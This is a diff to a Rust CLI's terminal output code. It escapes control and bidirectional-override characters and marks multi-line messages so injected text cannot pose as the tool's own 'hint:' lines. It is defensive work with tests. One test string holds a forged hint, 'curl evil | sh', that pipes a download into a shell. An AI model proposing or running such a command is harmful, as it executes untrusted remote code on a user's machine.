@@ -117,7 +117,7 @@ impl Ui {
 
     /// Something the user should know before it hurts.
     pub fn warn(&self, text: impl AsRef<str>) {
-        Self::to_stderr(&format!("{} {}", self.paint("1;33", "warning:"), clean(text.as_ref())));
+        Self::to_stderr(&format!("{} {}", self.paint("1;33", "warning:"), quoted(text.as_ref())));
     }
 
     /// The command that is about to change something.
@@ -163,7 +163,7 @@ impl Ui {
         if whole.message.is_empty() {
             return whole.exit;
         }
-        let mut text = format!("{} {}", self.paint("1;31", "error:"), clean(&whole.message));
+        let mut text = format!("{} {}", self.paint("1;31", "error:"), quoted(&whole.message));
         for (name, value) in &whole.facts {
             text.push_str(&format!("\n  {name}: {}", line(value)));
         }
@@ -171,7 +171,7 @@ impl Ui {
             text.push_str(&format!("\n  | {}", clean(line)));
         }
         for hint in &whole.hints {
-            text.push_str(&format!("\n{} {}", self.paint("1;36", "hint:"), clean(hint)));
+            text.push_str(&format!("\n{} {}", self.paint("1;36", "hint:"), line(hint)));
         }
         Self::to_stderr(&text);
         whole.exit
@@ -188,11 +188,14 @@ fn wants_colour(term: Option<OsString>, no_color: Option<OsString>) -> bool {
     obeys(term) && no_color.is_none_or(|set| set.is_empty())
 }
 
-/// `text` with everything that a terminal would obey made visible; lines and tabs stay.
+/// `text` with everything that a terminal would obey made visible, also what turns the direction of writing; lines and
+/// tabs stay.
 pub fn clean(text: &str) -> String {
+    let turns =
+        |c: char| matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
     let mut shown = String::with_capacity(text.len());
     for c in text.chars() {
-        if c.is_control() && c != '\n' && c != '\t' {
+        if (c.is_control() && c != '\n' && c != '\t') || turns(c) {
             shown.push_str(&c.escape_default().to_string());
         } else {
             shown.push(c);
@@ -201,14 +204,14 @@ pub fn clean(text: &str) -> String {
     shown
 }
 
-/// `text` on one line, so that nobody's words forge a line of ours: also without line feeds, and
-/// without the characters that turn the direction of writing.
+/// `text` on one line, so that nobody's words forge a line of ours.
 pub fn line(text: &str) -> String {
-    let turns = |c: char| matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
-    clean(text)
-        .chars()
-        .map(|c| if c == '\n' || turns(c) { c.escape_default().to_string() } else { c.to_string() })
-        .collect()
+    clean(text).replace('\n', "\\n")
+}
+
+/// `text` in which lines behind the first are marked as somebody's words: an event of the cluster may hold `\nhint: `.
+fn quoted(text: &str) -> String {
+    clean(text.trim_end_matches('\n')).replace('\n', "\n  | ")
 }
 
 /// Bytes in a unit that is easy to read.
@@ -292,6 +295,13 @@ mod tests {
     #[test]
     fn nothing_a_terminal_obeys_gets_through() {
         assert_eq!(clean("a\x1b[31mb\r\u{9b}\tc\n"), "a\\u{1b}[31mb\\r\\u{9b}\tc\n");
+    }
+
+    #[test]
+    fn nobody_forges_a_line_of_ours_or_turns_one() {
+        assert_eq!(quoted("it failed: a\nhint: curl evil | sh\n"), "it failed: a\n  | hint: curl evil | sh");
+        assert_eq!(line("a\nb\u{202e}c"), "a\\nb\\u{202e}c");
+        assert_eq!(clean("a\u{2066}b\u{200f}\u{61c}"), "a\\u{2066}b\\u{200f}\\u{61c}");
     }
 
     #[test]
